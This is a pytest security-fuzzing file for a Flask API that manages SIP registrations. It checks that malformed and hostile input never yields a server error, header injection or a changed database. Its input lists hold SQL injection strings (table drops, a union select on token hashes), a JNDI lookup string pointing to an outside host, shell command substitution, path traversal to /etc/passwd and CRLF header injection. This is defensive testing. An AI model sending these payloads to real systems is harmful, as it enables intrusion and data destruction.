"""Whatever a client sends: an answer in the envelope that is no fault of ours, and a database that is as it was."""

from __future__ import annotations

import json
from collections.abc import Iterator
from urllib.parse import quote

import psycopg
import pytest
from flask.testing import FlaskClient
from werkzeug.test import TestResponse

from sql.registrations.model import KEYS
from tests.fixtures.directory import Directory
from tests.fixtures.http import StartApi
from tests.fixtures.kamailio import StartKamailio
from tests.fixtures.location import AddBinding
from tests.fixtures.postgres import table_digests
from tests.fixtures.server import StartServer
from tests.stand.raw_http import exchange
from tests.stand.routes import Route, every_route

pytestmark = pytest.mark.long

# Each is sent percent-encoded in paths and queries, as it is in headers (without control characters) and in bodies.
TEXTS: list[bytes] = [
    b"\x00", b"\x01", b"\t", b"\n", b"\r", b"\x1b", b"\x1f",
    b"\x7f", b"a\x00b", b"bob\x00", b"\x00bob", b"a\r\nX-Injected: 1",
    # no UTF-8: a byte of Latin-1, half a character, an overlong slash, a surrogate, beyond Unicode
    b"\xff", b"bob\xc3", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf4\x90\x80\x80",
    # what looks like nothing, like something else, or runs backwards
    "\u2028".encode(), "\ufeff".encode(), "\u202eboB".encode(), "\u0131\u0130\ufb01".encode(), "e\u0301".encode(),
    "\u0663".encode(), "\uff0fbob".encode(), "\U0001f4de".encode(), "\ufffe".encode(),
    # SQL, formats, templates
    b"'", b'"', b"''", b"\\", b"\\'", b";", b"'; drop table location; --", b'"; drop table location; --',
    b"bob'; delete from location where ''='", b"x' or '1'='1", b"bob' --",
    b"' union select token_hash from auth_token --",
    b"bob) or (1=1", b"$1", b"$$", b"%s", b"%(account_id)s", b"%(username)s", b"%%", b"{conditions}", b"{0.__class__}",
    b"{{7*7}}", b"${jndi:ldap://198.51.100.1/a}", b"`id`", b"$(id)", b"E'\\x00'", b"pg_sleep(10)",
    # wildcards of LIKE, of restrictions, of regular expressions
    b"%", b"_", b"b_b", b"b%", b"*", b"#", b".*", b"(a+)+$", b"[", b"?", b"!",
    # paths in paths
    b"/", b"//", b"..", b".", b"../../etc/passwd", b"..\\..", b"%2F", b"%2e%2e%2f", b"bob/", b"/bob", b"count",
    b"COUNT",
    b"bob/count", b"bob?verb=DELETE", b"bob#x", b"bob;x=1",
    # numbers and words of JSON
    b"0", b"-1", b"+1", b"1e309", b"9" * 15, b"9" * 16, b"9" * 400, b"0x10", b"1.5", b"NaN", b"Infinity",
    b"null", b"true",
    b"undefined", b"[]", b"{}", b"", b" ", b" bob ", b"2147483648", b"7fffffffffffffff", b"ffffffffffffffffff",
    b"a" * 65, b"a" * 1000,
]  # fmt: skip
PARAMETERS = [
    "accept", "ascending", "auth_token", "created_from", "created_to", "file_name", "has_key", "has_value",
    "key_missing", "missing_value", "modified_from", "modified_to", "page_size", "paginate", "pretty_print", "reboot",
    "start_key", "verb", "_", "unknown", "filter_", "filter_nokey", "filter_username", "filter_not_username",
    "filter_owner_id", "filter_expires", "filter_event_timestamp", "filter_suppress_unregister_notify",
]  # fmt: skip
# With these most requests are refused before anything else is looked at.
DECISIVE = ["accept", "verb"]
HEADERS = [
    "Accept", "Authorization", "Content-Type", "If-None-Match", "Origin", "User-Agent", "X-Auth-Token", "X-File-Name",
    "X-Forwarded-For", "X-Pretty-Print", "X-Request-ID", "Access-Control-Request-Method", "If-Match", "Range",
]  # fmt: skip
FIELDS = ["auth_token", "verb", "accept", "data", "api_key", "restrictions", "unknown"]
VALUES = [
    "0", "1", "-1", "1.5", "1e400", "-0", "1" * 4000, "1" * 5000, "NaN", "Infinity", "-Infinity", "true",
    "false", "null", "[]",
    "{}", '""', '[""]', "[[[]]]", '{"":""}', '"\\u0000"', '"\\ud800"', '"\\udfff\\ud800"', '"\\ufffe"',
    '"\x7f"', '"\\r\\n"',
    '["DELETE"]', '{"a":{"b":{"c":null}}}', '{"get":"x"}', '{"get":[1]}', '{"get":[["*"]]}', '{"get":["\\u0000"]}',
    '{"\\u0000":["*"]}', '{"delete":null}', '{"GET":{"*":"*"}}', "[" * 900 + "]" * 900, '{"a":' * 900 + "1" + "}" * 900,
    '{"get":' + "[" * 900 + "]" * 900 + "}", json.dumps("x" * 10000), json.dumps("'; drop table location; --"),
]  # fmt: skip
BODIES: list[bytes] = [
    b"\x00", b"\xff\xfe", b"\xef\xbb\xbf{}", "{}".encode("utf-16"), '{"data":{}}'.encode("utf-32"), b"{",
    b'{"data":', b"'{}'",
    b"{}{}", b"{} x", b'{"data":{},}', b"{'data':{}}", b"// {}", b"[]", b"null", b"1", b'"x"', b"-",
    b"1" * 5000, b"NaN",
    b"[" * 100_000, b'{"data":' * 100_000, b"[" * 100_000 + b"]" * 100_000, b'{"a":1,"a":2,"data":{},"data":null}',
    b'{"data":"\xff"}', b'{"data":"\xed\xa0\x80"}', b'{"data":"\x00"}', b"<xml/>", b"api_key=1&verb=DELETE", b"%00=%00",
    b"--x\r\nContent-Disposition: form-data; name=\"data\"\r\n\r\n\x00\r\n--x--\r\n",
]  # fmt: skip


@pytest.fixture
def api(
    start_api: StartApi, directory: Directory, add_binding: AddBinding, database: psycopg.Connection
) -> Iterator[FlaskClient]:
    """Afterwards every row of every table is as it was, but for the records of flushes that had nothing to flush.

    A DELETE of a token's own account is let through, whatever comes with it, also with an empty username: then it is
    that of the account with a trailing slash. Bob and alice are registered in other accounts.
    """
    for username, domain in (("bob", "child.test"), ("count", "child.test"), ("alice", "reseller.test")):
        add_binding(username, domain)
    before = table_digests(database)
    yield start_api(api_max_body=4_000_000)
    flushes = database.execute("select distinct account_id, username, bindings from flush").fetchall()
    assert set(flushes) <= {("sibling", None, 0), ("admin", None, 0)}
    assert database.execute("select count(*) from flush_binding where shown").fetchone() == (0,)
    records = {table: before[table] for table in ("flush", "flush_binding", "flush_node")}
    assert {**table_digests(database), **records} == before


def _check(response: TestResponse, sent: object) -> None:
    """In the envelope, and no 5xx. CSV has none; and nothing was injected into the headers."""
    assert response.status_code < 500, sent
    assert "X-Injected" not in response.headers, sent
    assert response.headers["X-Request-ID"], sent
    if response.status_code == 304:
        return
    if response.mimetype == "text/csv":
        assert response.status_code == 200, sent
        return
    assert response.headers["Content-Type"] == "application/json", sent
    envelope = response.get_json()
    assert (envelope["status"] == "success") == (response.status_code < 400), sent
    assert envelope["request_id"] == response.headers["X-Request-ID"], sent
    if response.status_code >= 400:
        assert envelope["error"] == str(response.status_code), sent
        assert envelope["message"], sent


def _routes(api: FlaskClient) -> list[Route]:
    # /live, /ready, the document and its page are no part of Crossbar's and have no envelope; what they read of the
    # request is the name of a file, see tests/openapi/test_page.py.
    without = ("/live", "/ready", "/v2/openapi.json", "/v2/docs")
    return [route for route in every_route(api.application) if not route.rule.startswith(without)]


def _some(number: int) -> list[bytes]:
    """A quarter of the texts, another one for the next route: each route sees many, each text many routes."""
    return TEXTS[number % 4 :: 4]


def _values(route: Route) -> dict[str, str | bytes]:
    # For reading, an account that has registrations; for the rest, the one that has none.
    account = "child" if route.method == "GET" else "sibling"
    return {"account_id": account, "username": "nosuch", "device_id": "device-other"}


def _token(route: Route, directory: Directory) -> dict[str, str]:
    if route.rule == "/v2/token_auth" and route.method == "DELETE":
        return {}  # it would do what it is for
    return {"X-Auth-Token": directory.tokens[str(_values(route)["account_id"])]}


def test_in_a_path(api: FlaskClient, directory: Directory) -> None:
    """Each argument of each route, percent-encoded, to a token of the account and to one of a superduper admin."""
    for route in _routes(api):
        for argument in route.arguments:
            for text in TEXTS:
                path = route.path({**_values(route), argument: text})
                for headers in (_token(route, directory), {"X-Auth-Token": directory.tokens["admin"]}):
                    _check(api.open(path, method=route.method, headers=headers), (route.method, path))


def test_in_a_query(api: FlaskClient, directory: Directory) -> None:
    """Each parameter that means something somewhere: one by one with the list, together with the other routes."""
    for number, route in enumerate(_routes(api)):
        is_list = route.rule == "/v2/accounts/<account_id>/registrations" and route.method == "GET"
        together = [name for name in PARAMETERS if name not in DECISIVE]
        for names in [[name] for name in PARAMETERS] if is_list else [together, *([name] for name in DECISIVE)]:
            for text in TEXTS if is_list else _some(number):
                query = "&".join(f"{quote(name)}={quote(text, safe='')}" for name in names if name != "auth_token")
                url = f"{route.path(_values(route))}?{query}"
                _check(api.open(url, method=route.method, headers=_token(route, directory)), (route.method, url))


def test_as_a_token(api: FlaskClient) -> None:
    """In each place where a token may stand; none of them opens anything."""
    for number, route in enumerate(_routes(api)):
        if route.is_public:
            continue
        path = route.path(_values(route))
        for text in _some(number):
            words = text.decode("latin-1")
            answers = [api.open(f"{path}?auth_token={quote(text, safe='')}", method=route.method)]
            if route.method != "GET":
                answers.append(api.open(path, method=route.method, json={"auth_token": words}))
            if words.isprintable():
                answers.append(api.open(path, method=route.method, headers={"X-Auth-Token": words}))
                answers.append(api.open(path, method=route.method, headers={"Authorization": f"Bearer {words}"}))
                answers.append(api.open(path, method=route.method, headers={"Authorization": f"Basic {words}"}))
            for answer in answers:
                _check(answer, (path, text))
                assert answer.status_code == 401


def test_in_the_name_of_a_parameter(api: FlaskClient, directory: Directory) -> None:
    """A key is looked up and never becomes SQL: what no registration has finds nothing, or everything."""
    for text in [*TEXTS, *(b"username" + text for text in TEXTS)]:
        name = quote(text, safe="")
        for prefix in ("", "filter_", "filter_not_", "has_key=", "key_missing=", "has_value=", "missing_value="):
            url = f"/v2/accounts/child/registrations?{prefix}{name}={quote('bob')}"
            response = api.get(url, headers={"X-Auth-Token": directory.tokens["child"]})
            _check(response, url)


def test_in_a_header(api: FlaskClient, directory: Directory) -> None:
    """Each header that means something somewhere, bytes above ASCII as they are."""
    for number, route in enumerate(_routes(api)):
        is_list = route.rule == "/v2/accounts/<account_id>/registrations" and route.method == "GET"
        together = [name for name in HEADERS if name != "Accept"]
        for names in [[name] for name in HEADERS] if is_list else [together, ["Accept"]]:
            for text in TEXTS if is_list else _some(number):
                words = text.decode("latin-1")
                if not words.isprintable():
                    continue  # no server lets these through: tests/api/server/test_unread_requests.py
                headers = {**dict.fromkeys(names, words), **_token(route, directory)}
                _check(
                    api.open(route.path(_values(route)), method=route.method, headers=headers), (route.rule, headers)
                )


def test_in_a_field_of_a_body(api: FlaskClient, directory: Directory) -> None:
    """Numbers, booleans, lists, objects and broken text where a string belongs, in each field of the envelope."""
    for number, route in enumerate(_routes(api)):
        if route.method == "GET":
            continue
        for field in FIELDS:
            for value in [*VALUES, *(json.dumps(text.decode("latin-1")) for text in _some(number))]:
                inner = f'{{"api_key":"wrong","{field}":{value}}}'
                body = inner if field not in {"api_key", "restrictions"} else f'{{"data":{inner}}}'
                headers = {} if field == "auth_token" else _token(route, directory)
                response = api.open(route.path(_values(route)), method=route.method, headers=headers, data=body)
                _check(response, (route.method, route.rule, body[:200]))


def test_as_a_body(api: FlaskClient, directory: Directory) -> None:
    """What is no JSON, or no object, or deeper than Python can count; as JSON and as a form."""
    for route in _routes(api):
        for body in BODIES:
            for kind in (
                "application/json",
                "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x",
                "",
            ):
                headers = {**_token(route, directory), "Content-Type": kind}
                response = api.open(route.path(_values(route)), method=route.method, headers=headers, data=body)
                _check(response, (route.method, route.rule, kind, body[:200]))


def test_a_parameter_that_comes_twice(api: FlaskClient, directory: Directory) -> None:
    """The first one counts, conditions all count, and an unknown one none; a token is not taken from the second."""
    path, headers = "/v2/accounts/child/registrations", {"X-Auth-Token": directory.tokens["child"]}
    both = api.get(f"{path}?filter_username=bob&filter_username=count", headers=headers)
    size = api.get(f"{path}?page_size=1&page_size=2", headers=headers)
    bad = api.get(f"{path}?page_size=x&page_size=2", headers=headers)
    token = api.get(f"{path}?auth_token=wrong&auth_token={directory.tokens['child']}")
    for response in (both, size, bad, token):
        _check(response, response.request.query_string)
    assert (both.get_json()["data"], len(size.get_json()["data"])) == ([], 1)
    assert (bad.status_code, token.status_code) == (400, 401)


def test_wildcards_are_letters(api: FlaskClient, directory: Directory) -> None:
    """`%` and `_` match nothing but themselves: in a filter, and in a username to flush."""
    headers = {"X-Auth-Token": directory.tokens["child"]}
    for text in ("%", "b%", "b_b", "_ob", "bob%", "*", "b*", ".*", "^bob$"):
        filtered = api.get(f"/v2/accounts/child/registrations?filter_username={quote(text)}", headers=headers)
        flushed = api.delete(f"/v2/accounts/child/registrations/{quote(text)}", headers=headers)
        assert (filtered.get_json()["data"], flushed.status_code) == ([], 404), text


def test_a_device_may_be_called_as_a_path_is(
    start_api: StartApi,
    directory: Directory,
    add_binding: AddBinding,
    database: psycopg.Connection,
    start_kamailio: StartKamailio,
) -> None:
    """`count` is an endpoint that has no DELETE; the user of that name is flushed by another spelling of it."""
    path, headers = "/v2/accounts/child/registrations", {"X-Auth-Token": directory.tokens["child"]}
    for username in ("bob", "count"):
        add_binding(username, "child.test")
    http = start_api(start_kamailio().rpc_url)
    before = table_digests(database)
    assert [http.delete(f"{path}/{name}", headers=headers).status_code for name in ("count", "%63ount")] == [405, 405]
    assert table_digests(database) == before
    assert http.delete(f"{path}/Count", headers=headers).get_json()["data"] == "ok"
    assert [row["username"] for row in http.get(path, headers=headers).get_json()["data"]] == ["bob"]


def test_by_a_real_connection(
    start_server: StartServer, directory: Directory, add_binding: AddBinding, database: psycopg.Connection
) -> None:
    """What passes gunicorn's parser, or is refused by it, is answered the same: in the envelope, never 5xx."""
    add_binding("bob", "child.test")
    before = table_digests(database)
    port = start_server(api_rate_burst="0").port
    token = directory.tokens["child"].encode()
    end = b" HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\nX-Auth-Token: " + token + b"\r\n"
    sent = []
    for text in TEXTS:
        for escaped in (quote(text, safe="").encode(), text):
            sent.append(b"DELETE /v2/accounts/child/registrations/x" + escaped + end + b"\r\n")
            sent.append(b"DELETE /v2/accounts/" + escaped + b"/registrations/bob" + end + b"\r\n")
            sent.append(b"GET /v2/accounts/child/registrations?filter_username=" + escaped + end + b"\r\n")
        sent.append(b"GET /v2/accounts/child/registrations" + end + b"X-File-Name: " + text + b"\r\n\r\n")
        sent.append(b"GET /v2/accounts/child/registrations" + end + b"X-Request-ID: " + text + b"\r\n\r\n")
    sent += [
        b"DELETE /v2/accounts/child/registrations/nosuch" + end + b"Content-Length: %d\r\n\r\n%b" % (len(body), body)
        for body in BODIES
    ]
    for request in sent:
        reply = exchange(port, request)
        assert reply.status < 500, request
        assert reply.headers["Content-Type"] == "application/json", request
        assert reply.headers["X-Request-ID"] == reply.json()["request_id"], request
        assert "X-Injected" not in reply.headers, request
    assert table_digests(database) == before


def test_the_keys_here_are_those_of_the_contract() -> None:
    """So that the parameters above do name keys that exist."""
    named = {name.removeprefix("filter_").removeprefix("not_") for name in PARAMETERS if name.startswith("filter_")}
    assert named - {"", "nokey"} <= KEYS
